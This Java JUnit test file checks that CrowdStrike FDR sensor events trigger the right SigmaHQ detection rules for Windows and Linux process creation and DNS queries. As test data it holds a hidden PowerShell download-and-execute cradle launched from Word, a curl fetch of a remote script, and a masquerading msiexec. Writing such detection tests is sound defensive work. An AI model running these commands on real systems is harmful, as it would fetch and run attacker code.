package io.socaas.correlation.sigma.yaml;

import static io.socaas.correlation.sigma.yaml.IngestedEvents.assumeCorpus;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.firedJson;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.id;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.ingestedJson;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.logsources;
import static org.assertj.core.api.Assertions.assertThat;

import io.socaas.correlation.sigma.domain.Logsource;
import org.junit.jupiter.api.Test;

/**
 * CrowdStrike Falcon Data Replicator's sensor events reach SigmaHQ's Windows and Linux rules:
 * processes started, outbound connections, DNS queries. Images in the kernel's device form are
 * read with a drive letter, so that rules' folders and their exclusions hold; a parent is known by
 * its file name only. Each rule fires on the event it describes and stays silent on its near miss.
 * Without the corpus ({@code SOCAAS_CORPUS}) the tests are skipped.
 */
class CrowdStrikeFdrLogsourcesTest {

    private static final Logsource WINDOWS_PROCESS_CREATION = new Logsource("windows", "process_creation", null);
    private static final Logsource LINUX_PROCESS_CREATION = new Logsource("linux", "process_creation", null);
    private static final Logsource WINDOWS_DNS_QUERY = new Logsource("windows", "dns_query", null);

    private static final String SENSOR =
            "\"aid\": \"7c2e0a9b1d3f4a5e8b6c0d1e2f3a4b5c\", \"cid\": \"1a2b3c4d5e6f708192a3b4c5d6e7f809\","
                    + " \"aip\": \"203.0.113.81\", \"timestamp\": \"1772355601000\", \"ComputerName\": \"WS-DANA\", ";

    private static String process(String platform, String image, String commandLine, String parent) {
        return "{" + SENSOR + """
                "event_simpleName": "ProcessRollup2", "event_platform": "%s", "ProcessStartTime": "1772355600.125",
                 "id": "4b7e1f2a-2222-11f1-8c3d-0a1b2c3d4e5f", "ImageFileName": "%s", "CommandLine": "%s",
                 "RawProcessId": "7212", "TargetProcessId": "93400000123", "ParentProcessId": "93400000007",
                 "ParentBaseFileName": "%s", "UserSid": "S-1-5-21-2004336348-1177238915-682003330-1121", "UserName": "dana",
                 "SHA256HashData": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}""".formatted(platform, escape(image), escape(commandLine), parent);
    }

    private static String escape(String text) {
        return text.replace("\\", "\\\\").replace("\"", "\\\"");
    }

    @Test
    void anOfficeDocumentStartingAShellFiresTheOfficeChildProcessRule() {
        assumeCorpus();
        String officeChild = id("rules/windows/process_creation/proc_creation_win_office_susp_child_processes.yml");
        String shell = process(
                "Win",
                "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe",
                "cmd.exe /c powershell -w hidden -c iex(iwr http://198.51.100.9/a)",
                "WINWORD.EXE");
        assertThat(logsources(ingestedJson(shell))).contains(WINDOWS_PROCESS_CREATION);
        assertThat(firedJson(shell)).contains(officeChild);
        // the same shell opened from Explorer is no document's child
        assertThat(firedJson(shell.replace("WINWORD.EXE", "explorer.exe"))).doesNotContain(officeChild);
    }

    @Test
    void aProgramInTheSystemFolderIsTheSystemsOwnAndTheSameNameElsewhereIsMasquerading() {
        assumeCorpus();
        String masquerading = id("rules/windows/process_creation/proc_creation_win_msiexec_masquerading.yml");
        String genuine = process(
                "Win", "\\Device\\HarddiskVolume3\\Windows\\System32\\msiexec.exe", "msiexec.exe /V", "services.exe");
        String impostor = process(
                "Win",
                "\\Device\\HarddiskVolume3\\Users\\dana\\AppData\\Local\\Temp\\msiexec.exe",
                "msiexec.exe /q",
                "explorer.exe");
        assertThat(firedJson(impostor)).contains(masquerading);
        // the device path is read as C:\Windows\System32\msiexec.exe, which the rule leaves out
        assertThat(firedJson(genuine)).doesNotContain(masquerading);
    }

    @Test
    void aLinuxProcessReachesLinuxRulesOnly() {
        assumeCorpus();
        String linux = process("Lin", "/usr/bin/curl", "curl -s http://198.51.100.9/x.sh", "bash");
        assertThat(logsources(ingestedJson(linux)))
                .contains(LINUX_PROCESS_CREATION)
                .doesNotContain(WINDOWS_PROCESS_CREATION);
    }

    private static String dns(String domain, String process) {
        return "{" + SENSOR + """
                "event_simpleName": "DnsRequest", "event_platform": "Win", "ContextTimeStamp": "1772355606.000",
                 "DomainName": "%s", "RequestType": "1", "ContextProcessId": "93400000123", "ContextBaseFileName": "%s"}""".formatted(domain, process);
    }

    @Test
    void dnsQueriesFireTheirRulesByNameAndByTheProcessThatAsked() {
        assumeCorpus();
        String onion = id("rules/windows/dns_query/dns_query_win_tor_onion_domain_query.yml");
        String regsvr32 = id("rules/windows/dns_query/dns_query_win_regsvr32_dns_query.yml");
        assertThat(logsources(ingestedJson(dns("k3xq7.onion.to", "chrome.exe"))))
                .contains(WINDOWS_DNS_QUERY);
        assertThat(firedJson(dns("k3xq7.onion.to", "chrome.exe")))
                .contains(onion)
                .doesNotContain(regsvr32);
        assertThat(firedJson(dns("cdn.example.net", "regsvr32.exe")))
                .contains(regsvr32)
                .doesNotContain(onion);
        assertThat(firedJson(dns("cdn.example.net", "chrome.exe"))).doesNotContain(onion, regsvr32);
    }
}
